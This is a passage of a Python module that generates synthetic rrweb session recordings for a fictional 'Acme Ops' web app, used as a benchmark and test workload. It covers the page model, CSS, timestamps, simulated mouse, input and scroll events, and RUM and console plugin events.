"""Synthetic but realistic rrweb sessions: the benchmark and test workload.

`generate_session(n_events, duration_ms, seed, start_ms)` streams exactly `n_events` raw
rrweb events spread over exactly `duration_ms` for a made-up operations web app
("Acme Ops"): a dashboard with KPI cards and a live orders table whose cells update and
whose rows arrive and leave, a task list where items are added, ticked and deleted, a
profile form filled in keystroke by keystroke (selects, checkboxes, radios, a password
recorded masked as rrweb does by default), and a reports feed with infinite scroll, a
video and text selection. Around that: batched mouse moves with `timeOffset` (the most
frequent event, as in real recordings), clicks with focus/blur, scrolls, a few viewport
resizes, stylesheet rule edits, console plugin events (`rrweb/console@1`), RUM plugin
events (`replay/rum@1`: views with web vitals, resources, errors, actions with
frustration signals), full page loads (Meta + FullSnapshot, node ids restart) and
single-page route changes (a big mutation), and quiet stretches (no event at all for
16 s .. 5 min, shorter in short sessions, never 15 min: the whole stream stays one session).

Guarantees (tested): deterministic per seed; exactly `n_events` events, the first at
`start_ms`, the last at `start_ms + duration_ms`, timestamps non-decreasing; every
mutation is valid for `recorder.mirror.Mirror` (zero warnings); it is an iterator, so a
million events are never all in memory (~250k events/s streamed on one core). Durations
inside RUM payloads are milliseconds; `action.frustration.type` is a list, as Datadog's.

`generate_session(..., profile="real")` streams another workload, calibrated against a
real recording made by `benchmarks/record_real.py` (see `_RealApp`; `benchmarks/calibrate.py`
prints how close it comes): the same guarantees, no quiet stretch, ~60k events/s.

`hostile_session()` is a small recording full of things a player must neutralise
(scripts, on* handlers, javascript: URLs, srcdoc, remote resources, meta refresh, <base>)
for the player's sanitizer tests.

CLI: `python -m replay_tools.generator --events N [--duration-ms D] [--seed S] [--profile P]
-o FILE.json` (`--hostile` for the hostile recording) writes an rrweb JSON array.
"""
from __future__ import annotations

import argparse
import bisect
import functools
import math
import random
import sys
from typing import Any, Iterator

from recorder.format import CONSOLE_PLUGIN, RUM_PLUGIN, encode_json

Raw = dict[str, Any]

ORIGIN = "https://app.acme-ops.example"
CDN = "https://cdn.acme-ops.example"
API = "https://api.acme-ops.example"

# Event types / sources as plain ints: this module builds raw dicts at >100k events/s.
_FULL, _INC, _META, _CUSTOM, _PLUGIN = 2, 3, 4, 5, 6
_MUT, _MOVE, _MI, _SCROLL, _RESIZE, _INPUT, _MEDIA, _SHEET, _SEL = 0, 1, 2, 3, 4, 5, 7, 8, 14
_MOUSEUP, _MOUSEDOWN, _CLICK, _DBLCLICK, _FOCUS, _BLUR = 0, 1, 2, 4, 5, 6

# --- vocabulary -------------------------------------------------------------------------
_FIRST = ("Ada", "Ben", "Chloé", "Dmitri", "Elena", "Farah", "Goran", "Hana", "Ivan", "Jun",
          "Kwame", "Lucía", "Mateo", "Nadia", "Oskar", "Priya", "Quentin", "Rosa", "Sven",
          "Tariq", "Uma", "Viktor", "Wen", "Ximena", "Yusuf", "Zoë", "Liam", "Maya", "Noah")
_LAST = ("Okafor", "Schmidt", "Nakamura", "Silva", "Kowalski", "Haddad", "Johansson", "Rossi",
         "Dubois", "Novak", "Ivanova", "García", "Müller", "Chen", "Patel", "Andersen",
         "O'Brien", "Costa", "Yilmaz", "Kim", "Nguyen", "Fischer", "Moreau", "Tanaka")
_PRODUCTS = ("Standing desk", "Ergonomic chair", "USB-C dock", "27\" monitor", "Mechanical keyboard",
             "Noise-cancelling headset", "Webcam 4K", "Laptop stand", "Desk lamp", "Cable kit",
             "Whiteboard", "Office plant", "Coffee grinder", "Notebook set", "Router AX6000",
             "Label printer", "Shredder", "Monitor arm", "Footrest", "Smart plug")
_STATUSES = ("Pending", "Paid", "Packed", "Shipped", "Delivered", "Refunded", "Cancelled")
_COMPANIES = ("Northwind", "Globex", "Initech", "Umbrella Logistics", "Stark Supplies",
              "Wayne Retail", "Acme Foods", "Hooli", "Vandelay Imports", "Soylent")
_TASKS = ("Review Q3 numbers", "Call the warehouse", "Update shipping rates",
          "Reply to Globex about invoice", "Fix broken product images", "Plan team offsite",
          "Renew TLS certificate", "Order printer toner", "Prepare board slides",
          "Check refund queue", "Write onboarding doc", "Audit user permissions",
          "Migrate reports to v2", "Clean up old tickets", "Book flights to Lisbon")
_WORDS = ("revenue", "orders", "shipping", "weekly", "customers", "returns", "growth",
          "inventory", "forecast", "region", "margin", "conversion", "churn", "delivery",
          "supplier", "backlog", "quarter", "pipeline", "latency", "support", "tickets",
          "the", "and", "of", "in", "for", "with", "by", "is", "was", "to", "from", "per",
          "increased", "dropped", "remained", "stable", "compared", "last", "month", "team")
_COUNTRIES = (("de", "Germany"), ("fr", "France"), ("es", "Spain"), ("it", "Italy"),
              ("nl", "Netherlands"), ("pl", "Poland"), ("se", "Sweden"), ("pt", "Portugal"),
              ("gb", "United Kingdom"), ("us", "United States"), ("jp", "Japan"), ("br", "Brazil"))
_JS = f"{CDN}/static/js/main.8c1f3a.js"
_VENDOR_JS = f"{CDN}/static/js/vendor.41be07.js"
_FUNCS = ("fetchOrders", "renderTable", "onRowClick", "useLiveFeed", "applyFilter",
          "submitProfile", "validateForm", "loadReports", "handleScroll", "dispatch",
          "commitRoot", "flushSyncCallbacks", "Object.onMessage", "WebSocket.onmessage")
_ERRORS = (("TypeError", "Cannot read properties of undefined (reading 'map')"),
           ("TypeError", "Cannot read properties of null (reading 'id')"),
           ("ReferenceError", "chartInstance is not defined"),
           ("RangeError", "Invalid time value"),
           ("Error", "Request failed with status code 500"),
           ("SyntaxError", "Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON"))


def _uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def _money(v: float) -> str:
    return f"${v:,.2f}"


def _clock(ms: int) -> str:
    s = (ms // 1000) % 86400
    return f"{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}"


# --- the page model: tiny element/text specs that serialize like rrweb's snapshot ------
class E:
    """An element to be serialized. `id` is set when it is serialized; `box` is its
    rough layout (x, y, w, h) so the cursor can travel to it."""

    __slots__ = ("tag", "attrs", "kids", "id", "box", "svg")

    def __init__(self, tag: str, attrs: dict | None = None, kids: list | None = None,
                 box: tuple | None = None, svg: bool = False):
        self.tag = tag
        self.attrs = attrs if attrs is not None else {}
        self.kids = kids if kids is not None else []
        self.id = 0
        self.box = box
        self.svg = svg


class T:
    __slots__ = ("text", "id", "style")

    def __init__(self, text: str, style: bool = False):
        self.text = text
        self.id = 0
        self.style = style


class _Ids:
    """rrweb's id counter: pre-order, parent before children; restarts per page load."""

    def __init__(self) -> None:
        self.next = 1

    def serialize(self, node: E | T) -> Raw:
        nid = self.next
        self.next += 1
        node.id = nid
        if type(node) is T:
            if node.style:
                return {"type": 3, "textContent": node.text, "isStyle": True, "id": nid}
            return {"type": 3, "textContent": node.text, "id": nid}
        kids = [self.serialize(k) for k in node.kids]
        d = {"type": 2, "tagName": node.tag, "attributes": dict(node.attrs), "childNodes": kids}
        if node.svg:
            d["isSVG"] = True
        d["id"] = nid
        return d

    def adds(self, parent: E, node: E | T, next_id: int | None, assign: bool = True) -> list[Raw]:
        """Mutation adds for a new subtree, one per node as modern rrweb emits them
        (skipChild): ids in document order; each node after its parent and after its
        next sibling, so every parentId/nextId is already known when it is applied."""
        if assign:
            self.assign(node)
        out: list[Raw] = []
        stack = [(parent.id, node, next_id)]
        while stack:
            pid, n, nxt = stack.pop()
            if type(n) is T:
                sn = {"type": 3, "textContent": n.text, "id": n.id}
            else:
                sn = {"type": 2, "tagName": n.tag, "attributes": dict(n.attrs), "childNodes": []}
                if n.svg:
                    sn["isSVG"] = True
                sn["id"] = n.id
                kids = n.kids
                # push so that the last child pops first, then the one before it, ...
                for i in range(len(kids)):
                    stack.append((n.id, kids[i], kids[i + 1].id if i + 1 < len(kids) else None))
            out.append({"parentId": pid, "nextId": nxt, "node": sn})
        return out

    def assign(self, node: E | T) -> None:
        stack = [node]
        while stack:
            n = stack.pop()
            n.id = self.next
            self.next += 1
            if type(n) is E:
                stack.extend(reversed(n.kids))


def _el(tag: str, cls: str | None = None, text: str | None = None, box=None, **attrs) -> E:
    a = {"class": cls} if cls else {}
    for k, v in attrs.items():
        a[k.rstrip("_").replace("__", "-")] = v
    return E(tag, a, [T(text)] if text is not None else [], box)


def _mutation(adds=None, removes=None, texts=None, attributes=None) -> tuple[int, Raw]:
    return _INC, {"source": _MUT, "texts": texts or [], "attributes": attributes or [],
                  "removes": removes or [], "adds": adds or []}


# --- CSS -------------------------------------------------------------------------------
def _app_css() -> str:
    rules = [
        ":root{--brand:#3b5bdb;--bg:#f8f9fa;--fg:#212529;--muted:#868e96;--ok:#2f9e44;--warn:#f08c00;--bad:#e03131}",
        "*{box-sizing:border-box}",
        "html,body{margin:0;padding:0;font-family:Inter,system-ui,-apple-system,'Segoe UI',Roboto,sans-serif;font-size:14px;color:var(--fg);background:var(--bg)}",
        ".app-header{position:sticky;top:0;display:flex;align-items:center;gap:24px;height:56px;padding:0 24px;background:#fff;border-bottom:1px solid #e9ecef;z-index:10}",
        ".logo{font-weight:700;font-size:18px;color:var(--brand);text-decoration:none}",
        ".nav a{color:var(--muted);text-decoration:none;padding:18px 12px;display:inline-block}",
        ".nav a.active{color:var(--fg);border-bottom:2px solid var(--brand)}",
        ".user-menu{margin-left:auto;display:flex;align-items:center;gap:8px}",
        ".avatar{width:28px;height:28px;border-radius:50%;background:#dee2e6}",
        "main{padding:24px;max-width:1280px;margin:0 auto}",
        "h1{font-size:22px;margin:0 0 16px}",
        ".kpis{display:grid;grid-template-columns:repeat(4,1fr);gap:16px;margin-bottom:24px}",
        ".kpi{background:#fff;border:1px solid #e9ecef;border-radius:8px;padding:16px}",
        ".kpi-label{display:block;color:var(--muted);font-size:12px;text-transform:uppercase;letter-spacing:.04em}",
        ".kpi-value{display:block;font-size:24px;font-weight:600;margin-top:4px}",
        ".kpi-delta.up{color:var(--ok)}",
        ".kpi-delta.down{color:var(--bad)}",
        ".progress{height:6px;background:#e9ecef;border-radius:3px;overflow:hidden;margin-top:8px}",
        ".progress .bar{height:100%;background:var(--brand);transition:width .3s ease}",
        ".card{background:#fff;border:1px solid #e9ecef;border-radius:8px;padding:16px;margin-bottom:16px}",
        ".toolbar{display:flex;gap:8px;align-items:center;margin-bottom:12px}",
        ".toolbar input[type=search]{flex:1;padding:8px 12px;border:1px solid #ced4da;border-radius:6px}",
        "table.orders{width:100%;border-collapse:collapse}",
        "table.orders th{text-align:left;font-weight:600;color:var(--muted);padding:8px;border-bottom:1px solid #dee2e6;cursor:pointer;user-select:none}",
        "table.orders th.sorted::after{content:' \\25BE'}",
        "table.orders td{padding:8px;border-bottom:1px solid #f1f3f5;white-space:nowrap}",
        "table.orders tr.row-new{animation:flash 1.2s ease-out}",
        "@keyframes flash{from{background:#fff3bf}to{background:transparent}}",
        ".badge{display:inline-block;padding:2px 8px;border-radius:10px;font-size:12px;background:#e9ecef}",
        ".badge-paid,.badge-delivered{background:#d3f9d8;color:#2b8a3e}",
        ".badge-pending,.badge-packed{background:#fff3bf;color:#e67700}",
        ".badge-shipped{background:#d0ebff;color:#1864ab}",
        ".badge-refunded,.badge-cancelled{background:#ffe3e3;color:#c92a2a}",
        ".pager{display:flex;justify-content:flex-end;gap:8px;margin-top:12px}",
        "button,.btn{font:inherit;padding:6px 14px;border-radius:6px;border:1px solid #ced4da;background:#fff;cursor:pointer}",
        "button.primary{background:var(--brand);border-color:var(--brand);color:#fff}",
        "button:disabled{opacity:.5;cursor:not-allowed}",
        ".todoapp{max-width:640px;margin:0 auto;background:#fff;border-radius:8px;box-shadow:0 2px 6px rgba(0,0,0,.08)}",
        ".new-todo{width:100%;padding:16px 16px 16px 56px;border:none;font-size:18px;border-bottom:1px solid #e9ecef}",
        ".todo-list{list-style:none;margin:0;padding:0}",
        ".todo-list li{position:relative;border-bottom:1px solid #f1f3f5;font-size:16px}",
        ".todo-list li .view{display:flex;align-items:center;padding:12px 16px;gap:16px}",
        ".todo-list li.completed label{color:#adb5bd;text-decoration:line-through}",
        ".todo-list li .destroy{margin-left:auto;border:none;color:#e03131;font-size:20px;opacity:0}",
        ".todo-list li:hover .destroy{opacity:1}",
        ".footer{display:flex;justify-content:space-between;padding:10px 16px;color:var(--muted)}",
        ".filters{list-style:none;display:flex;gap:4px;margin:0;padding:0}",
        ".filters a{margin:0 4px;padding:2px 8px;border-radius:4px;color:inherit;text-decoration:none}",
        ".filters a.selected{border:1px solid #ffc9c9}",
        "form.profile{display:grid;grid-template-columns:180px 1fr;gap:14px 20px;max-width:760px}",
        "form.profile label{padding-top:8px;color:#495057}",
        "form.profile input[type=text],form.profile input[type=email],form.profile input[type=tel],form.profile input[type=password],form.profile select,form.profile textarea{padding:8px 10px;border:1px solid #ced4da;border-radius:6px;font:inherit}",
        "form.profile .invalid{border-color:var(--bad)!important}",
        ".field-error{grid-column:2;color:var(--bad);font-size:12px;margin-top:-8px}",
        ".toast{position:fixed;right:24px;bottom:24px;padding:12px 16px;border-radius:8px;background:#212529;color:#fff;box-shadow:0 4px 12px rgba(0,0,0,.2)}",
        ".toast.error{background:var(--bad)}",
        ".feed{height:640px;overflow-y:auto;padding-right:8px}",
        ".report{display:grid;grid-template-columns:160px 1fr;gap:16px;background:#fff;border:1px solid #e9ecef;border-radius:8px;padding:16px;margin-bottom:12px}",
        ".report img{width:160px;height:90px;object-fit:cover;border-radius:4px;background:#e9ecef}",
        ".report h3{margin:0 0 6px;font-size:16px}",
        ".report p{margin:0;color:#495057;line-height:1.5}",
        ".report.expanded p.more{display:block}",
        ".report .meta{color:var(--muted);font-size:12px}",
        "video.briefing{width:100%;max-width:640px;border-radius:8px;background:#000}",
        "@media (max-width:900px){.kpis{grid-template-columns:repeat(2,1fr)}form.profile{grid-template-columns:1fr}}",
        "@media (prefers-reduced-motion:reduce){*{transition:none!important;animation:none!important}}",
    ]
    return "".join(rules) + _utility_css()


@functools.lru_cache(maxsize=1)
def _utility_css() -> str:
    """The utility-class part of a modern app stylesheet (a Tailwind-like subset): what
    makes real inlined `_cssText` tens of kilobytes."""
    out = []
    scale = ("0", ".125rem", ".25rem", ".5rem", ".75rem", "1rem", "1.25rem", "1.5rem", "2rem",
             "2.5rem", "3rem", "4rem", "5rem")
    for short, props in (("m", ("margin",)), ("mt", ("margin-top",)), ("mb", ("margin-bottom",)),
                         ("ml", ("margin-left",)), ("mr", ("margin-right",)),
                         ("mx", ("margin-left", "margin-right")), ("my", ("margin-top", "margin-bottom")),
                         ("p", ("padding",)), ("pt", ("padding-top",)), ("pb", ("padding-bottom",)),
                         ("pl", ("padding-left",)), ("pr", ("padding-right",)),
                         ("px", ("padding-left", "padding-right")), ("py", ("padding-top", "padding-bottom")),
                         ("gap", ("gap",))):
        for i, v in enumerate(scale):
            out.append(f".{short}-{i}{{{';'.join(f'{p}:{v}' for p in props)}}}")
    hues = (("gray", 210, 10), ("red", 0, 80), ("orange", 28, 90), ("yellow", 48, 95), ("green", 142, 60),
            ("teal", 172, 66), ("blue", 217, 91), ("indigo", 239, 84), ("purple", 271, 81), ("pink", 330, 81))
    for name, hue, sat in hues:
        for shade in (50, 100, 200, 300, 400, 500, 600, 700, 800, 900):
            light = 97 - shade * 0.085
            for prefix, prop in (("text", "color"), ("bg", "background-color"), ("border", "border-color")):
                out.append(f".{prefix}-{name}-{shade}{{{prop}:hsl({hue} {sat}% {light:.0f}%)}}")
            out.append(f".hover\\:bg-{name}-{shade}:hover{{background-color:hsl({hue} {sat}% {light:.0f}%)}}")
    for i in range(1, 13):
        out.append(f".w-{i}\\/12{{width:{i / 12 * 100:.6f}%}}")
        out.append(f".col-span-{i}{{grid-column:span {i}/span {i}}}")
        out.append(f".grid-cols-{i}{{grid-template-columns:repeat({i},minmax(0,1fr))}}")
    for name, decl in (("flex", "display:flex"), ("inline-flex", "display:inline-flex"), ("grid", "display:grid"),
                       ("hidden", "display:none"), ("block", "display:block"), ("items-center", "align-items:center"),
                       ("justify-between", "justify-content:space-between"), ("truncate", "overflow:hidden;text-overflow:ellipsis;white-space:nowrap"),
                       ("rounded", "border-radius:.25rem"), ("rounded-lg", "border-radius:.5rem"), ("shadow", "box-shadow:0 1px 3px 0 rgb(0 0 0/.1),0 1px 2px -1px rgb(0 0 0/.1)"),
                       ("font-medium", "font-weight:500"), ("font-semibold", "font-weight:600"), ("text-sm", "font-size:.875rem;line-height:1.25rem"),
                       ("text-xs", "font-size:.75rem;line-height:1rem"), ("sr-only", "position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);white-space:nowrap;border-width:0")):
        out.append(f".{name}{{{decl}}}")
    for bp, w in (("sm", 640), ("md", 768), ("lg", 1024), ("xl", 1280)):
        inner = "".join(f".{bp}\\:grid-cols-{i}{{grid-template-columns:repeat({i},minmax(0,1fr))}}" for i in range(1, 7))
        out.append(f"@media (min-width:{w}px){{{inner}}}")
    return "".join(out)


# Feather-style icons for the navigation (SVG markup is a real part of snapshot size).
_ICONS = (
    "M3 3h7v9H3zM14 3h7v5h-7zM14 12h7v9h-7zM3 16h7v5H3z",
    "M9 11l3 3L22 4M21 12v7a2 2 0 0 1-2 2H5a2 2 0 0 1-2-2V5a2 2 0 0 1 2-2h11",
    "M14 2H6a2 2 0 0 0-2 2v16a2 2 0 0 0 2 2h12a2 2 0 0 0 2-2V8zM14 2v6h6M16 13H8M16 17H8M10 9H8",
    "M12 15a3 3 0 1 0 0-6 3 3 0 0 0 0 6zM19.4 15a1.65 1.65 0 0 0 .33 1.82l.06.06a2 2 0 1 1-2.83 2.83l-.06-.06a1.65 1.65 0 0 0-1.82-.33 1.65 1.65 0 0 0-1 1.51V21a2 2 0 1 1-4 0v-.09A1.65 1.65 0 0 0 9 19.4a1.65 1.65 0 0 0-1.82.33l-.06.06a2 2 0 1 1-2.83-2.83l.06-.06A1.65 1.65 0 0 0 4.68 15a1.65 1.65 0 0 0-1.51-1H3a2 2 0 1 1 0-4h.09A1.65 1.65 0 0 0 4.6 9a1.65 1.65 0 0 0-.33-1.82l-.06-.06a2 2 0 1 1 2.83-2.83l.06.06A1.65 1.65 0 0 0 9 4.68a1.65 1.65 0 0 0 1-1.51V3a2 2 0 1 1 4 0v.09a1.65 1.65 0 0 0 1 1.51 1.65 1.65 0 0 0 1.82-.33l.06-.06a2 2 0 1 1 2.83 2.83l-.06.06A1.65 1.65 0 0 0 19.4 9a1.65 1.65 0 0 0 1.51 1H21a2 2 0 1 1 0 4h-.09a1.65 1.65 0 0 0-1.51 1z",
)


def _icon(d: str) -> E:
    return E("svg", {"class": "icon", "viewBox": "0 0 24 24", "width": "16", "height": "16", "fill": "none",
                     "stroke": "currentColor", "stroke-width": "2", "stroke-linecap": "round",
                     "stroke-linejoin": "round", "aria-hidden": "true"},
             [E("path", {"d": d}, [], svg=True)], svg=True)


_THEME_CSS = (".theme-light body{background:#f8f9fa}"
              ".theme-light .card{box-shadow:0 1px 2px rgba(0,0,0,.04)}"
              ".sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)}")
_THEME_RULES = 3  # top-level rules in _THEME_CSS (the stylesheet edits index into them)
_DARK_RULES = ("body.dark{background:#1a1b1e;color:#e9ecef}",
               "body.dark .card,body.dark .kpi{background:#25262b;border-color:#373a40}",
               "body.dark table.orders td{border-color:#2c2e33}")


# --- quiet stretches and the clock --------------------------------------------------------
def _timestamps(n: int, duration_ms: int, start_ms: int, rng: random.Random) -> Iterator[int]:
    """Exactly n non-decreasing timestamps from start_ms to start_ms + duration_ms. Event
    density swells and ebbs (a smooth warp of time), and quiet stretches — no event at all
    for 16 s .. 5 min, never 15 min — are cut in at random event indices."""
    if n <= 0:
        return
    if n == 1:
        yield start_ms
        return
    gaps: list[tuple[int, int]] = []
    if n >= 50 and duration_ms >= 60_000:
        count = max(1, round(duration_ms / 720_000))
        lengths = [rng.uniform(16_000, 300_000) for _ in range(count)]
        cap = 0.3 * duration_ms
        if sum(lengths) > cap:  # short sessions: fewer, shorter quiet stretches
            scale = cap / sum(lengths)
            lengths = [x * scale for x in lengths]
            lengths = [x for x in lengths if x >= 11_000] or [min(cap, 11_000)]
        idx = sorted(rng.sample(range(max(1, n // 50), n - max(1, n // 50)), min(len(lengths), n - 2 * max(1, n // 50))))
        gaps = list(zip(idx, (int(x) for x in lengths)))
    active = duration_ms - sum(g for _, g in gaps)
    waves = max(1, round(duration_ms / 1_200_000))  # busy and calm phases, ~20 min apart
    amp = 0.6
    w = 2 * math.pi * waves
    inv = 1.0 / (n - 1)
    jitter = active * inv * (1 - amp) * 0.8  # < the smallest spacing: order is kept
    sin = math.sin
    rnd = rng.random
    acc = 0
    gi = 0
    ng = len(gaps)
    next_gap = gaps[0][0] if gaps else n
    for k in range(n - 1):
        if k >= next_gap:
            acc += gaps[gi][1]
            gi += 1
            next_gap = gaps[gi][0] if gi < ng else n
        u = k * inv
        yield start_ms + acc + int(active * (u + amp * sin(w * u) / w) + (rnd() * jitter if k else 0))
    yield start_ms + duration_ms


# --- the app --------------------------------------------------------------------------------
class _App:
    """State of the simulated browser tab: the page shown, its nodes, the cursor, the
    focused field, open toasts, the RUM view. `now` is the timestamp of the event being
    built (set by the driver before each event is pulled)."""

    MOVE_POSITIONS = (2, 8)  # positions per MouseMove batch: lo + int(random() * span)

    def __init__(self, rng: random.Random, start_ms: int, n_events: int):
        self.rng = rng
        self.now = start_ms
        self.k = 0
        self.n = n_events
        self.width, self.height = rng.choice(((1440, 900), (1920, 1080), (1366, 768), (1536, 864)))
        self.x, self.y = self.width // 2, self.height // 2
        self.last_move = start_ms
        self.ids = _Ids()
        self.page: _Page | None = None
        self.focused: E | None = None
        self.toasts: list[E] = []
        self.dark_rules = 0
        self.view_id = ""
        self.url = ""
        self.nav_every = max(300, min(n_events // 4, 30_000))
        self.next_nav = self.nav_every

    # --- low-level event makers ---------------------------------------------------------
    def move(self, tx: float, ty: float, target_id: int, steps: int | None = None) -> Iterator:
        """Batched MouseMove events travelling to (tx, ty), rrweb style: each event holds
        the positions sampled since the previous batch, with negative timeOffsets."""
        rnd = self.rng.random
        batches = steps if steps is not None else 1 + int(rnd() * 3)
        x0, y0 = self.x, self.y
        fallback = self.page.root.id if self.page else 1
        for b in range(1, batches + 1):
            npos = self.MOVE_POSITIONS[0] + int(rnd() * self.MOVE_POSITIONS[1])
            span = min(500, max(npos, self.now - self.last_move))
            pos = []
            for i in range(1, npos + 1):
                f = ((b - 1) * npos + i) / (batches * npos)
                x = int(x0 + (tx - x0) * f + rnd() * 12 - 6)
                y = int(y0 + (ty - y0) * f + rnd() * 8 - 4)
                pos.append({"x": x if x > 0 else 0, "y": y if y > 0 else 0,
                            "id": target_id if f > 0.7 else fallback,
                            "timeOffset": -int(span * (npos - i) / npos)})
            self.last_move = self.now
            yield _INC, {"source": _MOVE, "positions": pos}
        self.x, self.y = int(tx), int(ty)

    def goto(self, node: E) -> Iterator:
        x, y, w, h = node.box or (self.rng.randint(40, self.width - 40), self.rng.randint(80, self.height - 40), 10, 10)
        return self.move(x + self.rng.random() * w, y + self.rng.random() * h, node.id)

    def click(self, node: E, focusable: bool = False) -> Iterator:
        yield from self.goto(node)
        x, y = self.x, self.y
        yield _INC, {"source": _MI, "type": _MOUSEDOWN, "id": node.id, "x": x, "y": y, "pointerType": 0}
        if focusable and self.focused is not node:
            if self.focused is not None and self._alive(self.focused):
                yield _INC, {"source": _MI, "type": _BLUR, "id": self.focused.id}
            yield _INC, {"source": _MI, "type": _FOCUS, "id": node.id}
            self.focused = node
        elif not focusable and self.focused is not None:
            if self._alive(self.focused):
                yield _INC, {"source": _MI, "type": _BLUR, "id": self.focused.id}
            self.focused = None
        yield _INC, {"source": _MI, "type": _MOUSEUP, "id": node.id, "x": x, "y": y, "pointerType": 0}
        yield _INC, {"source": _MI, "type": _CLICK, "id": node.id, "x": x, "y": y, "pointerType": 0}

    def _alive(self, node: E) -> bool:
        return self.page is not None and node.id in self.page.alive

    def type_text(self, node: E, text: str, start: str = "", masked: bool = False) -> Iterator:
        """One Input event per keystroke (cumulative value), with the odd typo fixed by
        backspace. rrweb masks password fields by default: '*' per character."""
        rng = self.rng
        value = start
        for ch in text:
            if ch.isalpha() and rng.random() < 0.04:
                value += rng.choice("qwertyuiopasdfghjkl")
                yield self.input(node, "*" * len(value) if masked else value)
                value = value[:-1]
                yield self.input(node, "*" * len(value) if masked else value)
            value += ch
            yield self.input(node, "*" * len(value) if masked else value)

    def input(self, node: E, text: str, checked: bool = False) -> tuple[int, Raw]:
        return _INC, {"source": _INPUT, "text": text, "isChecked": checked, "userTriggered": True,
                      "id": node.id}

    def scroll(self, node_id: int, y_to: int, y_from: int = 0) -> Iterator:
        steps = self.rng.randint(3, 12)
        for i in range(1, steps + 1):
            yield _INC, {"source": _SCROLL, "id": node_id, "x": 0,
                         "y": max(0, int(y_from + (y_to - y_from) * i / steps))}

    # --- plugins ----------------------------------------------------------------------------
    def console(self, level: str, *args: Any, depth: int = 2) -> tuple[int, Raw]:
        rng = self.rng
        trace = [f"{rng.choice(_FUNCS)} ({rng.choice((_JS, _VENDOR_JS))}:{rng.randint(1, 3)}:{rng.randint(100, 99999)})"
                 for _ in range(depth)]
        return _PLUGIN, {"plugin": CONSOLE_PLUGIN, "payload": {
            "level": level, "trace": trace, "payload": [encode_json(a).decode() for a in args]}}

    def rum(self, kind: str, body: Raw) -> tuple[int, Raw]:
        payload = {"type": kind, "date": self.now, "view": {"id": self.view_id, "url": self.url}}
        payload[kind] = body
        return _PLUGIN, {"plugin": RUM_PLUGIN, "payload": payload}

    def resource(self, url: str, kind: str = "fetch", method: str = "GET", status: int = 200,
                 size: int | None = None) -> tuple[int, Raw]:
        rng = self.rng
        dur = round(rng.lognormvariate(4.5, 0.8), 1)  # ~90 ms median, long tail
        return self.rum("resource", {"id": _uuid(rng), "type": kind, "url": url, "method": method,
                                     "status_code": status, "duration": dur,
                                     "size": size if size is not None else (rng.randint(300, 60_000) if status < 400 else rng.randint(0, 400))})

    def error(self, etype: str, message: str, source: str = "source") -> tuple[int, Raw]:
        rng = self.rng
        stack = f"{etype}: {message}\n" + "\n".join(
            f"    at {rng.choice(_FUNCS)} ({_JS}:{rng.randint(1, 3)}:{rng.randint(100, 99999)})"
            for _ in range(rng.randint(3, 7)))
        return self.rum("error", {"id": _uuid(rng), "message": message, "source": source,
                                  "type": etype, "stack": stack})

    def action(self, name: str, frustration: str | None = None) -> tuple[int, Raw]:
        body: Raw = {"id": _uuid(self.rng), "type": "click", "target": {"name": name}}
        if frustration:
            body["frustration"] = {"type": [frustration]}
        return self.rum("action", body)

    # --- pages ---------------------------------------------------------------------------------
    def load(self, kind: type["_Page"], full: bool) -> Iterator:
        """A full page load (Meta + FullSnapshot, ids restart) or an SPA route change (the
        <main> content swapped by one mutation), then the RUM view and its resources."""
        rng = self.rng
        old = self.page
        page = kind(self)
        referrer = self.url
        self.url = f"{ORIGIN}{page.path}"
        self.view_id = _uuid(rng)
        self.focused = None
        if full or old is None:
            self.ids = _Ids()
            self.toasts = []
            self.dark_rules = 0
            yield _META, {"href": self.url, "width": self.width, "height": self.height}
            snap = _serialize_document(self.ids, page)
            page.collect()
            yield _FULL, {"node": snap, "initialOffset": {"left": 0, "top": 0}}
        else:
            page.adopt_chrome(old)
            adds = self.ids.adds(page.main, page.content, None)
            removes = [{"parentId": page.main.id, "id": old.content.id}]
            page.main.kids = [page.content]
            page.title_text.text = f"{page.title} · Acme Ops"
            page.collect()
            nav_attrs = [{"id": a.id, "attributes": {"class": "active" if a.attrs["href"] == page.path else None}}
                         for a in page.nav_links]
            yield _mutation(adds=adds, removes=removes, attributes=nav_attrs,
                            texts=[{"id": page.title_text.id, "value": f"{page.title} · Acme Ops"}])
        self.page = page
        lcp = round(rng.lognormvariate(7.2, 0.5), 1)
        yield self.rum("view", {"id": self.view_id, "url": self.url, "referrer": referrer,
                                "name": page.path, "loading_type": "initial_load" if full else "route_change",
                                "loading_time": round(lcp * rng.uniform(0.9, 1.4), 1),
                                "first_contentful_paint": round(lcp * rng.uniform(0.4, 0.8), 1),
                                "largest_contentful_paint": lcp,
                                "cumulative_layout_shift": round(rng.expovariate(12), 3),
                                "interaction_to_next_paint": round(rng.lognormvariate(4.8, 0.6), 1)})
        if full:
            yield self.resource(self.url, "document", size=rng.randint(3000, 9000))
            yield self.resource(_VENDOR_JS, "js", size=412_331)
            yield self.resource(_JS, "js", size=rng.randint(180_000, 190_000))
            yield self.resource(f"{CDN}/static/css/app.5d21c9.css", "css", size=38_112)
            yield self.resource(f"{CDN}/fonts/inter-var.woff2", "font", size=98_820)
        for url in page.api_calls():
            yield self.resource(url, "fetch")
        yield self.console("info", f"[router] {page.path} ready", {"view": self.view_id[:8]}, depth=1)

    def chrome(self, page: "_Page") -> E:
        links = []
        for i, (label, path) in enumerate((("Dashboard", "/dashboard"), ("Tasks", "/tasks"),
                                           ("Reports", "/reports"), ("Settings", "/settings/profile"))):
            a = _el("a", "active" if path == page.path else None, label, box=(160 + 110 * i, 18, 80, 20), href=path)
            a.kids.append(_icon(_ICONS[i]))
            links.append(a)
        page.nav_links = links
        page.help_btn = _el("button", "help", "Help", box=(self.width - 220, 14, 60, 28), type="button")
        page.bell = _el("button", "bell", "Alerts", box=(self.width - 140, 14, 30, 28), type="button", aria__label="Notifications")
        header = E("header", {"class": "app-header"}, [
            _el("a", "logo", "Acme Ops", box=(24, 16, 90, 24), href="/"),
            E("nav", {"class": "nav"}, links),
            E("div", {"class": "user-menu"}, [page.help_btn, page.bell,
                                               _el("span", "avatar"), _el("span", "user-name", "M. Okafor")]),
        ])
        page.main = E("main", {}, [page.content])
